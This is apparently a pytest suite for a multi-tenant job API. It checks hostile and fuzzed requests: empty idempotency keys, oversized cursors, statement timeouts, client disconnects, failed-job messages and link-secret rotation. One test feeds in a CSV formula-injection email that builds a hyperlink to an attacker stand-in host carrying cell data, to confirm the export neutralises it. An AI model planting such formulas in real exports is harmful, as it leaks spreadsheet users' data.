"""Job requests from outside, as an attacker or a fuzzer sends them: an empty
Idempotency-Key, cursors past 64 bits, dry runs and guarded submits under the statement
timeout (and cancelled when the client leaves), spreadsheet formulas in the output, and
what a failed job tells its tenant."""

import asyncio
import csv
import io
import secrets
import time
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from structlog.testing import capture_logs

from app.api.cancellable import WriteQuery
from app.errors import JOB_FAILED, QueryTimeout
from app.jobs import repository
from tests.conftest import Scoped

HUGE = 433130299662913559618343927808  # the fuzzer's
BODY = {"selection": {}, "actions": [{"type": "set_score", "mode": "add", "value": 1}]}


def paths(response) -> list[str]:
    assert response.status_code == 422, response.text
    return [d["path"] for d in response.json()["error"]["details"]]


def test_an_empty_idempotency_key_is_422(client):
    """A key that is there but empty (an unset shell variable) is a mistake: treating it as
    absent would make the retry it was meant to guard a second job."""
    client.load({"email": "a@x.com"})
    for _ in range(2):
        r = client.post("/v1/jobs", json=BODY, headers={"Idempotency-Key": ""})
        assert paths(r) == ["header.idempotency-key"]
    assert client.get("/v1/jobs").json()["jobs"] == []


def test_a_lost_key_race_answers_the_winners_job(client, monkeypatch):
    """The unique index refuses the loser's row: it answers the winner's job, looking once."""
    client.load({"email": "a@x.com"})
    headers = {"Idempotency-Key": "race"}
    first = client.post("/v1/jobs", json=BODY, headers=headers).json()
    real = repository.find_by_idempotency_key
    calls = []

    def not_yet_committed_at_first(conn, account_id, key):
        calls.append(key)
        return None if len(calls) == 1 else real(conn, account_id, key)

    monkeypatch.setattr(repository, "find_by_idempotency_key", not_yet_committed_at_first)
    r = client.post("/v1/jobs", json=BODY, headers=headers)
    assert r.status_code == 202 and r.json()["id"] == first["id"]
    assert len(calls) == 2


def test_a_key_that_keeps_colliding_is_409_not_a_recursion(client, monkeypatch):
    """The fuzzer's 500: the submit retried itself for ever on the unique violation."""
    client.load({"email": "a@x.com"})
    headers = {"Idempotency-Key": "stuck"}
    client.post("/v1/jobs", json=BODY, headers=headers)
    monkeypatch.setattr(repository, "find_by_idempotency_key", lambda *_: None)
    r = client.post("/v1/jobs", json=BODY, headers=headers)
    assert r.status_code == 409, r.text
    assert len(client.get("/v1/jobs").json()["jobs"]) == 1


def test_query_ids_past_64_bits_are_422(client):
    for url in (f"/v1/jobs?before={HUGE}", f"/v1/jobs?before={2**63}", "/v1/jobs?before=0"):
        assert paths(client.get(url)) == ["query.before"], url
    assert client.get(f"/v1/jobs?before={2**63 - 1}").status_code == 200


@pytest.fixture
def slow(db_url, engine, api):
    """(client, spec, tiny_timeout()): an account of 50,000 contacts, a spec PostgreSQL
    needs far more than a millisecond for, and a context that sets the app's statement
    timeout to one (PostgreSQL only: SQLite has no statement timeout)."""
    if not db_url.startswith("postgresql"):
        pytest.skip("statement_timeout is PostgreSQL's")
    from contextlib import contextmanager

    from tests.bulk import bulk_account

    _, key = bulk_account(engine, 50_000, with_key=True)
    spec = {
        "filter": {
            "or": [
                {"event": {"type": "PURCHASE"}, "agg": "sum", "op": "gt", "value": 10},
                {"field": "first_name", "op": "contains", "value": "me1"},
            ]
        }
    }
    settings = api.app.state.settings

    @contextmanager
    def tiny_timeout():
        saved = settings.statement_timeout_s
        settings.statement_timeout_s = 0.001
        try:
            yield
        finally:
            settings.statement_timeout_s = saved

    return Scoped(api, key), spec, tiny_timeout


def test_dry_run_and_guarded_submit_answer_503_past_the_timeout(slow, api):
    client, spec, tiny_timeout = slow
    dry = {"selection": spec, "actions": [{"type": "set_state", "state": "OTHER"}]}
    guarded = {**dry, "expected_total": 1}
    with tiny_timeout():
        answers = [
            api.post("/v1/jobs?dry_run=true", json=dry, headers=client.headers),
            api.post("/v1/jobs", json=guarded, headers=client.headers),
        ]
    for r in answers:
        assert r.status_code == 503, r.text
        assert r.json()["error"]["code"] == "query_timeout"
    assert client.get("/v1/jobs").json()["jobs"] == []  # the submit rolled back
    total = client.post("/v1/jobs?dry_run=true", json=dry).json()["total"]
    assert total == client.count(spec) > 0


def test_plain_reads_run_under_the_timeout_too(db_url, api, client, monkeypatch):
    """Every route's connection carries the statement timeout; past it, a 503."""
    if not db_url.startswith("postgresql"):
        pytest.skip("statement_timeout is PostgreSQL's")
    from app.jobs import service

    monkeypatch.setattr(
        service, "list_jobs", lambda conn, *_, **__: conn.execute(sa.text("SELECT pg_sleep(5)"))
    )
    settings = api.app.state.settings
    saved = settings.statement_timeout_s
    settings.statement_timeout_s = 0.05
    try:
        started = time.monotonic()
        r = api.get("/v1/jobs", headers=client.headers)
    finally:
        settings.statement_timeout_s = saved
    assert r.status_code == 503 and r.json()["error"]["code"] == "query_timeout", r.text
    assert time.monotonic() - started < 4


class Leaving:
    """A request whose client has gone away."""

    async def is_disconnected(self) -> bool:
        return True


def test_a_write_is_cancelled_on_the_server_when_its_client_leaves(db_url, engine, account):
    """The submit's transaction: the statement in flight is cancelled on the server and
    everything the transaction wrote rolls back."""
    if not db_url.startswith("postgresql"):
        pytest.skip("cancelling a statement is PostgreSQL's")
    name = f"left-{time.monotonic_ns()}"

    def work(conn):
        conn.execute(
            sa.text(
                "INSERT INTO groups (account_id, name, name_key, created_at)"
                " VALUES (:a, :n, :n, now())"
            ),
            {"a": account[0], "n": name},
        )
        conn.execute(sa.text("SELECT pg_sleep(30)"))

    started = time.monotonic()
    with pytest.raises(QueryTimeout):
        asyncio.run(WriteQuery(Leaving(), lambda: engine, timeout_s=60)(work))
    assert time.monotonic() - started < 10
    with engine.connect() as conn:
        left = conn.execute(sa.text("SELECT count(*) FROM groups WHERE name = :n"), {"n": name})
        assert left.scalar_one() == 0


def test_job_output_neutralises_spreadsheet_formulas(client):
    evil = '=hyperlink("http://evil.example/?"&a1,"click")@x.com'
    emails = [evil, "+48@x.com", "-dash@x.com", "plain@x.com"]
    client.load(*({"email": e} for e in emails))
    job = client.run({}, [{"type": "generate_links", "url": "https://x.example/?t={token}"}])
    text = client.get(f"/v1/jobs/{job['id']}/output").text
    got = {row["email"] for row in csv.DictReader(io.StringIO(text))}
    assert got == {"'" + evil.lower(), "'+48@x.com", "'-dash@x.com", "plain@x.com"}


def test_a_failed_job_shows_a_code_and_a_generic_message(client, monkeypatch):
    """SQL text and contact data stay in the server log (without the statement's values);
    the tenant reads a stable code and a generic message."""
    from app.actions.columns import SetStateHandler

    client.load({"email": "a@x.com"})
    raised = []

    def broken(self, rc, ids):
        try:
            rc.conn.execute(
                sa.text("SELECT * FROM no_such_table WHERE email = :email"),
                {"email": "secret@x.com"},
            )
        except sa.exc.DBAPIError as exc:
            raised.append(str(exc))
            raise

    monkeypatch.setattr(SetStateHandler, "apply", broken)
    with capture_logs() as logged:
        job = client.run({}, [{"type": "set_state", "state": "OTHER"}])
    assert job["status"] == "failed"
    assert (job["error_code"], job["error"]) == ("internal_error", JOB_FAILED)
    assert any(e["event"] == "job failed" and e.get("exc_info") for e in logged)
    assert "no_such_table" in raised[0] and "secret@x.com" not in raised[0]


def test_a_job_whose_rule_went_away_says_so(client):
    """An error that is the tenant's to fix is shown as raised, with its code."""
    client.load({"email": "a@x.com"})
    rule = client.post(
        "/v1/rules", json={"name": "gone", "actions": [{"type": "add_tags", "tags": ["t"]}]}
    ).json()
    run_at = (datetime.now(UTC) + timedelta(seconds=1)).isoformat()
    body = {"selection": {}, "actions": [{"type": "run_rule", "rule": rule["id"]}]}
    job = client.post("/v1/jobs", json={**body, "run_at": run_at}).json()
    assert client.delete(f"/v1/rules/{rule['id']}").status_code == 204
    done = client.wait(job["id"])
    assert done["status"] == "failed" and done["error_code"] == "validation_error"
    assert "rule" in done["error"] and "SELECT" not in done["error"]


def test_a_new_link_secret_retires_the_links_made_with_the_old_one(api, client):
    """Rotating the secret after a leak must retire the tokens the leaked one computes."""
    client.load({"email": "a@x.com"})
    job = client.run({}, [{"type": "generate_links", "url": "https://x.example/?t={token}"}])
    (row,) = csv.DictReader(io.StringIO(client.get(f"/v1/jobs/{job['id']}/output").text))
    token = row["value"].split("t=")[1]
    assert client.get(f"/v1/links/{token}").status_code == 200
    settings = api.app.state.settings
    saved = settings.link_secret
    settings.link_secret = secrets.token_hex(32)
    try:
        assert client.get(f"/v1/links/{token}").status_code == 404
    finally:
        settings.link_secret = saved
    assert client.get(f"/v1/links/{token}").json()["email"] == "a@x.com"
